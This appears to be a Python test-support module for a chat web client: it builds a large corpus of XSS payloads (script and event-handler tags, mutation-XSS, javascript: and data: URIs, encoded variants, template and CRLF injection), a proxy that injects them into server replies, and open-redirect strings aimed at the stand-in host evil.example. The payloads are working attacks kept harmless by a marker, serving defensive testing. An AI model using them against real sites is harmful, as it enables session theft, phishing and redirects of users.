"""Words made to become more than words, and an Ozeki server that says them wherever it may say anything.

Whatever of them comes alive leaves a trace: it sets `evil` in the page, has an attribute `data-evil`, or asks for
something with "evil" in its address.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any
from urllib.parse import urlsplit

RUN = "top.evil=1"
MARKUP = (
    f"<script data-evil>{RUN}</script>",
    "<script src=//evil.example/x data-evil></script>",
    f"<script type=module data-evil>import('/evil');{RUN}</script>",
    f"<img src=/evil onerror={RUN} data-evil>",
    f"<ImG/SrC=/evil/OnErRoR={RUN}/dAtA-eViL>",
    f"<img\x0csrc=/evil\tonerror={RUN}\rdata-evil>",
    f"<<img src=/evil onerror={RUN} data-evil>",
    f"<svg onload={RUN} data-evil>",
    f"<svg/onload={RUN}/data-evil><animate onbegin={RUN} attributeName=x>",
    f"<svg><script data-evil>{RUN}</script></svg>",
    "<svg><use href=//evil.example/x#a data-evil></svg>",
    f"<math><mtext><mglyph><style><!--</style><img title='--><img src=/evil onerror={RUN} data-evil>'>",
    f"<details open ontoggle={RUN} data-evil>x</details>",
    f"<video data-evil><source onerror={RUN}></video>",
    "<audio src=//evil.example/x autoplay data-evil></audio>",
    f"<input autofocus onfocus={RUN} data-evil>",
    f"<b tabindex=0 onpointerenter={RUN} data-evil>x</b>",
    f"<b style=animation-name:x onanimationstart={RUN} data-evil>x</b>",
    "<b style=background:url(//evil.example/x) data-evil>x</b>",
    f"<iframe src=javascript:{RUN} data-evil></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>" data-evil></iframe>',
    "<object data=//evil.example/x data-evil></object>",
    "<embed src=//evil.example/x data-evil>",
    "<link rel=stylesheet href=//evil.example/x data-evil>",
    "<link rel=prefetch href=//evil.example/x data-evil>",
    "<style data-evil>@import '//evil.example/x'; *{background:url(/evil)}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example/ data-evil>",
    "<base href=//evil.example/ data-evil>",
    "<form action=//evil.example/ data-evil><button>Sign in again</button></form>",
    f"<a href=javascript:{RUN} data-evil>x</a>",
    f"<a href=jav&#x09;ascript:{RUN} data-evil>x</a>",
    "<b hx-get=/evil hx-trigger=load data-evil>x</b>",
    "<b data-hx-post=/evil data-hx-trigger=load data-evil>x</b>",
    f"<b hx-on::load={RUN} hx-vals=js:{RUN} data-evil>x</b>",
    "<template data-evil><b>x</b></template>",
    "<message-list data-evil data-conversation=evil></message-list>",
    "<article data-message=evil data-sender=evil data-evil>x</article>",
    "<textarea name=text data-evil>",
    "<bdi data-evil>x</bdi>",
    f"<noscript><p title='</noscript><img src=/evil onerror={RUN} data-evil>'>",
    f"<img src=/evil onerror={RUN} data-evil x=",  # never closed
)
# What may stand before it: the end of what it was put into.
BEFORE = (
    *("", '">', "'>", "`>", '\\">', "-->", "]]>", "x>"),
    *("</bdi></a></li></ol>", "</textarea>", "</title></head>", "</script>", "</style></template>"),
    *("https://example.org/?", "> ", "```\n"),
)
# What needs no markup, or is some only after being read once too often.
OTHERS = (
    f'" onfocus={RUN} autofocus data-evil x="',
    f"' onfocus={RUN} autofocus data-evil x='",
    f" onfocus={RUN} autofocus data-evil ",
    '" hx-get=/evil hx-trigger=load data-evil x="',
    '" style="background:url(/evil)" data-evil="',
    f'https://example.org/"onpointerenter={RUN} data-evil="',
    f"https://example.org/'onpointerenter={RUN} data-evil='",
    f"https://example.org/\u2028onload={RUN} data-evil",
    f'mailto:a@example.org?"onpointerenter={RUN} data-evil="',
    f'tel:"onpointerenter={RUN} data-evil="',
    f'a@example.org"onpointerenter={RUN} data-evil="',
    f"javascript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"JaVaScRiPt://example.org/%0a{RUN}",
    f"[x](javascript:{RUN})",
    f"![x](/evil){{onerror={RUN}}}",
    f"<javascript:{RUN}>",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "{{ request.META }}{% include '/evil' %}{{ 7|add:7 }}",
    f"${{{RUN}}}#{{{RUN}}}",
    f"\\u003cimg src=/evil onerror={RUN} data-evil\\u003e",
    f"\\x3cimg src=/evil onerror={RUN} data-evil\\x3e",
    f"%3Cimg src=/evil onerror={RUN} data-evil%3E",
    f"&lt;img src=/evil onerror={RUN} data-evil&gt;",
    f"&#60;img src=/evil onerror={RUN} data-evil&#62;",
    f"&amp;lt;img src=/evil onerror={RUN} data-evil&amp;gt;",
    f"\uff1cimg src=/evil onerror={RUN} data-evil\uff1e",
    f"\u2039img src=/evil onerror={RUN} data-evil\u203a",
    f"+ADw-img src=/evil onerror={RUN} data-evil+AD4-",
    f"<\x00img src=/evil onerror={RUN} data-evil>",
    f"\u202e>live-atad {RUN}=rorreno live/=crs gmi<",
    '{"type": "event", "rows": "<b data-evil>"}',
    "\r\nSet-Cookie: evil=1\r\n\r\n<b data-evil>",
)
WORDS = tuple(before + markup for markup in MARKUP for before in BEFORE) + OTHERS

# What must have its shape to be taken at all, and what the server may say freely.
SHAPED = ("id", "ID", "userid", "friendid", "Created", "ValidUntil")
FREE = {
    *("server", "fullname", "nick", "displayname", "username", "friendname", "availability", "errormessage"),
    *("listitembackgroundcolor", "hideid"),
}


def spoiled(value: Any, words: Iterator[str], name: str = "") -> Any:
    """A reply with such words in every field that is free, several at once, and for every name in a table of them. At
    the end of each list stand some more of what is in it, with such words for an id or a time."""
    if isinstance(value, dict):
        nicks = name == "friends"
        return {key: spoiled(each, words, "nick" if nicks else key) for key, each in value.items()}
    if isinstance(value, list):
        last = value[-1] if value and isinstance(value[-1], dict) else {}
        shapeless = [{**last, field: next(words)} for field in SHAPED if field in last]
        return [spoiled(each, words, name) for each in value + shapeless]
    return " ".join(itertools.islice(words, 8)) if name in FREE and isinstance(value, str) else value


@contextmanager
def between(url: str, change: Callable[[Any], Any]) -> Iterator[str]:
    """An Ozeki server that passes on what the one at `url` replies, changed; the address that stands for it."""
    behind = urlsplit(url)

    class Passing(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"]))
            headers = {name: value for name, value in self.headers.items() if name.lower() != "accept-encoding"}
            with closing(HTTPConnection(behind.hostname or "", behind.port, timeout=30)) as connection:
                connection.request("POST", self.path, body, headers)
                response = connection.getresponse()
                content = json.dumps(change(json.loads(response.read()))).encode()
            self.send_response(response.status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, format: str, *args: object) -> None:
            """Nothing: what is said here is for pages."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Passing) as server:
        serving = Thread(target=server.serve_forever)
        serving.start()
        yield f"http://127.0.0.1:{server.server_port}{behind.path}"
        server.shutdown()
        serving.join()


# Where a form's `next` should not lead.
HOSTS = (
    *(
        "evil.example",
        "evil.example:80",
        "x@evil.example",
        "evil\u3002example",
        "evil%E3%80%82example",
        "evil.example%2f..",
    ),
    *("[::1]", "2130706433", "evil.example#", "evil.example?", "127.0.0.1@evil.example", "evil.example\\@127.0.0.1"),
)
LEADING = (
    *(
        "//",
        "///",
        "////",
        "/\\",
        "\\\\",
        "\\/",
        "\\",
        "/\t/",
        "/\n/",
        "/\r\n/",
        "\t//",
        " //",
        "\x00//",
        "\x01/",
        "/\x00/",
    ),
    *(
        "/%2f",
        "/%2f/",
        "/%5c",
        "/%09/",
        "/%0d%0a/",
        "%2f%2f",
        "/./",
        "/.//",
        "/..//",
        "/a/..//",
        "/%2e%2e//",
        "?//",
        "#//",
    ),
    *(
        "http:",
        "https:",
        "http:/",
        "https://",
        "https:///",
        "hTTps://",
        "https:\\\\",
        "http:%2f%2f",
        "ht\ntps://",
        "javascript:",
    ),
    *(
        "javascript://",
        "data:text/html,",
        "ftp://",
        "file://",
        "about:",
        "//\t",
        "\uff0f\uff0f",
        "/\uff0f",
        "/\u2044",
        "\u3002//",
    ),
    *("/\u2028/", "/\ufeff/", "\u202e//", "/@", "//@", "/;//", "/\\\t\\", "/\\/", "\\\t/", ".//", "..//", "@", ":"),
)
ELSEWHERE = tuple(leading + host for leading in LEADING for host in HOSTS)
